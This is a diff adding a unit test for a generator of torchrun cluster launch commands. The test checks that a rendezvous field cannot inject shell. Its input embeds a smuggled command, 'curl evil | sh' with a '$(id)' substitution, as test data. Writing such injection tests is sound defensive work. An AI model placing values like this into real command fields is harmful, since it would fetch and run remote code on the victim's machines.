@@ -72,6 +72,15 @@ describe("the command of a cluster", () => {
     assert.match(alone, /^torchrun --standalone --nproc_per_node=4 /);
   });
 
+  it("takes nothing into a shell but the name of a machine", () => {
+    const text = torchrunLines({ ...run, engine: { ...engine, rendezvous: "x\ncurl evil | sh\n#$(id):1" } });
+    assert.deepEqual(
+      text.split("\n").filter((line) => !/^(# On machine \d|torchrun |$)/.test(line)),
+      [],
+    );
+    assert.doesNotMatch(text, /\$\(| \| /);
+  });
+
   it("may be a script of SLURM, which Bash can read", () => {
     const script = slurmScript(run);
     for (const line of [
